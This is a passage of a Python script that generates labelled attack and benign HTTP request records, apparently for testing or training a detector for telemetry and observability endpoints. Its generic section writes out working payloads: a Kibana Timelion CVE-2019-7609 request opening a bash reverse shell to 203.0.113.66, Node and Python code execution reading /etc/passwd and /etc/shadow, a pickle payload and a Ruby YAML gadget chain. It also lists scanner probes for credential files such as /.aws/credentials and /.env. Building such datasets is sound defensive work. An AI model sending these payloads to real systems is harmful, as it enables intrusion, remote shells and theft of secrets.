        "Content-Type: application/x-www-form-urlencoded; charset=ibm037", "Content-Length: %d" % len(body)], body))
    body = b'{"resourceSpans":[]}'
    raw_record("protocol", "null_in_header", raw_req([
        "POST /v1/traces HTTP/1.1", "Host: otel.internal.example.org", "User-Agent: OTel-OTLP-Exporter-Go/1.32.0", "Content-Type: application/json",
        "X-Forwarded-For: 127.0.0.1\x00.evil.example", "Content-Length: %d" % len(body)], body))
    raw_record("protocol", "http09_style_version", raw_req([
        "GET /api/v1/status/config HTTP/0.9", "Host: prometheus.monitoring.svc:9090", "User-Agent: curl/7.88.1"]))


# --------------------------------------------------------------------------- scanner

SCANNER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:004242)",
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "feroxbuster/2.10.4",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 23.1.0)",
    "WhatWeb/0.5.5",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21 Acunetix-Product",
    "Mozilla/5.0 zgrab/0.x",
    "dirbuster/1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
]


def gen_scanner():
    probes = [
        ("GET", "/actuator/env"), ("GET", "/actuator/heapdump"), ("GET", "/actuator/gateway/routes"), ("GET", "/jolokia/list"),
        ("GET", "/debug/pprof/goroutine?debug=2"), ("GET", "/debug/vars"), ("GET", "/server-status?auto"), ("GET", "/.env"),
        ("GET", "/.git/config"), ("POST", "/api/v1/admin/tsdb/delete_series?match[]=%7B__name__%3D~%22.%2B%22%7D"),
        ("POST", "/api/v1/admin/tsdb/snapshot"), ("GET", "/api/v1/status/config"), ("GET", "/_cat/indices?v"),
        ("GET", "/_cluster/settings?include_defaults=true"), ("GET", "/api/snapshots"), ("GET", "/api/admin/settings"),
        ("GET", "/v2/api-docs"), ("GET", "/.aws/credentials"), ("GET", "/_profiler/phpinfo"), ("GET", "/telescope/requests"),
        ("GET", "/storage/logs/laravel.log"), ("GET", "/elmah.axd"), ("GET", "/trace.axd"), ("GET", "/metrics"), ("GET", "/solr/admin/cores?action=STATUS&wt=json"),
    ]
    for i, (m, path) in enumerate(probes):
        ua = SCANNER_UAS[i % len(SCANNER_UAS)]
        host = pick(["otel-collector.observability.svc.cluster.local:8888", "prometheus.example.net", "grafana.example.org", "logs.example.net", "203.0.113.10"])
        extra = [["Connection", "close"]]
        if i % 4 == 0:
            extra.append(["X-Forwarded-For", "127.0.0.1"])
        attack("scanner", "probe_" + path.strip("/").split("?")[0].replace("/", "_").replace(".", "").replace("-", "_")[:40], m, path, ahdrs(host, ua=ua, extra=extra))


# --------------------------------------------------------------------------- generic

def gen_generic():
    cases = [
        ("proto_pollution_segment", "POST", "/v1/t", "text/plain", J({"type": "track", "event": "x", "properties": {"__proto__": {"isAdmin": True, "role": "admin"}}, "writeKey": hexid(32)}), "api.segment.io"),
        ("constructor_prototype", "POST", "/api/v1/events", "application/json", '{"event":"view","context":{"constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/cmdline"}}}}', "ingest.telemetry.acme.io"),
        ("proto_pollution_query", "GET", "/api/v1/track?__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x&event=pv", None, None, "telemetry.example.com"),
        ("proto_pollution_bracket", "GET", "/collect?constructor[prototype][polluted]=1&constructor.prototype.isAdmin=true", None, None, "telemetry.example.com"),
        ("kibana_timelion_cve_2019_7609", "POST", "/api/timelion/run", "application/json",
         J({"sheet": [".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"bash -c \\'bash -i >& /dev/tcp/203.0.113.66/6666 0>&1\\'\");process.exit()//')\n.props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')"],
            "time": {"from": "now-15m", "to": "now", "mode": "quick", "interval": "10s", "timezone": "UTC"}}), "kibana.example.net"),
        ("node_child_process", "POST", "/api/v1/pipelines/transform/test", "application/json", J({"transform": "require('child_process').execSync('cat /etc/passwd').toString()"}), "vector.example.net"),
        ("node_process_binding", "POST", "/api/v1/metrics/expr", "application/json", J({"expr": "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/shadow','utf8')"}), "monitor.example.io"),
        ("python_eval", "GET", "/api/v1/metrics/derived?formula=" + q("__import__('os').popen('id').read()"), None, None, "monitor.example.io"),
        ("python_pickle_b64", "POST", "/api/v1/jobs/state", "application/json",
         J({"job": "export", "state": base64.b64encode(b"\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.").decode(), "codec": "pickle"}), "reports.acme-corp.de"),
        ("ruby_yaml_gadget", "POST", "/api/v1/alerts/import", "application/x-yaml",
         "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve\n", "alerts.example.net"),
        ("ssi_exec", "POST", "/api/v1/logs", "application/json", J({"level": "info", "message": "<!--#exec cmd=\"/bin/cat /etc/passwd\" -->"}), "logs.example.net"),
        ("js_eval_atob", "POST", "/api/v1/widgets", "application/json", J({"title": "cpu", "formatter": "function(v){return eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWNTeW5jKCJpZCIp'))}"}), "grafana.example.org"),
        ("node_vm_escape", "POST", "/api/v1/alerts/conditions/test", "application/json",
         J({"condition": "const p = this.constructor.constructor('return process')(); p.mainModule.require('child_process').execSync('touch /tmp/pwned')"}), "alerts.example.net"),
        ("proto_pollution_unicode", "POST", "/api/v1/events", "application/json", '{"event":"pv","props":{"\\u005f\\u005fproto\\u005f\\u005f":{"admin":true}}}', "ingest.telemetry.acme.io"),
    ]
    for c in cases:
        slug, m, uri, ct, body, host = c
        attack("generic", slug, m, uri, ahdrs(host, ct=ct), body)




def main():
    # generated records, in order
    gen_otlp_traces(40)
    gen_otlp_metrics(14)
    gen_otlp_logs(26)
    gen_zipkin(14)
    gen_jaeger_query(10)
    gen_pushgateway(14)
    gen_influx(14)
    gen_graphite_statsd(8)
    gen_loki(18)
    gen_es_bulk(18)
    gen_splunk_hec(14)
    gen_datadog(20)
    gen_newrelic_honeycomb(12)
    gen_fluent_vector_logstash(12)
    gen_sentry_envelopes(30)
    gen_sentry_store(8)
    gen_bugsnag_rollbar_raygun(15)
    gen_csp_reports(20)
    gen_nel_reporting(8)
    gen_web_vitals(15)
    gen_ga4(10)
    gen_segment_rudder_snowplow(18)
    gen_syslog_http(10)
    gen_k8s_audit(14)
    gen_falco_osquery(14)
    gen_security_alert_forwarding(12)
    gen_ci_logs(10)
    gen_junit_upload(5)
    gen_query_apis(40)
    gen_dev_content()
    gen_sqli()
    gen_xss()
    gen_lfi()
    gen_rfi()
    gen_rce()
    gen_php()
    gen_java()
    gen_ssrf()
    gen_xxe()
    gen_ssti()
    gen_nosqli()
    gen_ldap()
    gen_crlf()
    gen_protocol()
    gen_scanner()
    gen_generic()
    attacks = ATTACKS
    benign_recs = BENIGN
    os.makedirs(OUT_DIR, exist_ok=True)
    for name, recs in (("telemetry-attacks.jsonl", attacks),
                       ("telemetry-benign.jsonl", benign_recs)):
        path = os.path.join(OUT_DIR, name)
        with open(path, "w", encoding="utf-8") as f:
            for r in recs:
                f.write(json.dumps(r, ensure_ascii=False) + "\n")
    cats = {}
    for r in attacks + benign_recs:
        cats[r["category"]] = cats.get(r["category"], 0) + 1
    print("attacks: %d  benign: %d" % (len(attacks), len(benign_recs)))
    for c in sorted(cats):
        print("  %-12s %d" % (c, cats[c]))


if __name__ == "__main__":
    main()
